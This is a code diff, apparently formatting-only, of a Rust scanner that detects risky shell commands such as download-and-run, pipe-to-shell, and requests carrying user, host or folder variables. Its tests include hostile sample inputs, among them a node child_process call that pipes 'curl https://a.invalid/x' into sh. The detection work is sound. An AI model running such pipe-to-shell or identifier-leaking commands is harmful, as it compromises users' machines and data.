@@ -85,9 +85,13 @@ fn bare(command: &Command) -> Command {
         let skip = match name.as_str() {
             "cmd" => command.args.iter().position(|arg| matches!(arg.as_str(), "/c" | "/C" | "/k" | "/K")),
             "sudo" | "nohup" | "exec" | "time" | "start" | "setsid" | "doas" | "command" => {
-                let flags = command.args.iter().take_while(|arg| arg.starts_with(['-', '/']) && arg.len() < 4);
-                let titled = usize::from(name == "start" && command.args.first().is_some_and(String::is_empty));
-                Some(flags.count() + titled).filter(|&at| at < command.args.len()).map(|at| at.wrapping_sub(1))
+                let flags =
+                    command.args.iter().take_while(|arg| arg.starts_with(['-', '/']) && arg.len() < 4);
+                let titled =
+                    usize::from(name == "start" && command.args.first().is_some_and(String::is_empty));
+                Some(flags.count() + titled)
+                    .filter(|&at| at < command.args.len())
+                    .map(|at| at.wrapping_sub(1))
             }
             _ => None,
         };
@@ -130,7 +134,8 @@ pub fn script(source: &str, index: &crate::model::LineIndex<'_>) -> (Vec<Fact>, 
         for command in commands(&line).iter().map(bare) {
             let alone = found.iter().any(|fact| fact.name == "download-and-run");
             if !alone && runs(&command, &fetched) {
-                let mut fact = Fact::new(FactKind::Shell, "download-and-run", span.clone()).value(line.as_str());
+                let mut fact =
+                    Fact::new(FactKind::Shell, "download-and-run", span.clone()).value(line.as_str());
                 fact.capability = Some(CapabilityKind::Net);
                 out.push(fact);
             }
@@ -377,9 +382,20 @@ fn scan(line: &str, span: &Span, layer: u8, depth: u8, out: &mut Vec<Fact>) {
         // Host, user and folder in a request, or in a name that is looked up.
         let tell = |inner: &str| tells(inner) == Some(Tells::Host);
         let variable = |arg: &String| {
-            ["$USER", "$HOSTNAME", "${USER}", "${HOSTNAME}", "%USERNAME%", "%COMPUTERNAME%", "$(pwd)", "$PWD", "$env:USERNAME", "$env:COMPUTERNAME"]
-                .iter()
-                .any(|name| arg.contains(name))
+            [
+                "$USER",
+                "$HOSTNAME",
+                "${USER}",
+                "${HOSTNAME}",
+                "%USERNAME%",
+                "%COMPUTERNAME%",
+                "$(pwd)",
+                "$PWD",
+                "$env:USERNAME",
+                "$env:COMPUTERNAME",
+            ]
+            .iter()
+            .any(|name| arg.contains(name))
         };
         if asks(command)
             && (command.substitutions.iter().any(|text| tell(text)) || command.args.iter().any(variable))
@@ -582,7 +598,10 @@ mod tests {
             ),
             ("uname -m && curl -O https://a.invalid/list.txt", &["download"]),
             ("start /B node a.js", &[]),
-            ("node -e \"require('child_process').exec('curl https://a.invalid/x | sh')\"", &["download", "pipe-to-shell"]),
+            (
+                "node -e \"require('child_process').exec('curl https://a.invalid/x | sh')\"",
+                &["download", "pipe-to-shell"],
+            ),
             ("node-gyp rebuild || exit 0", &[]),
             ("husky install", &[]),
             ("rm -rf dist && tsc -p . && node scripts/build.js", &[]),
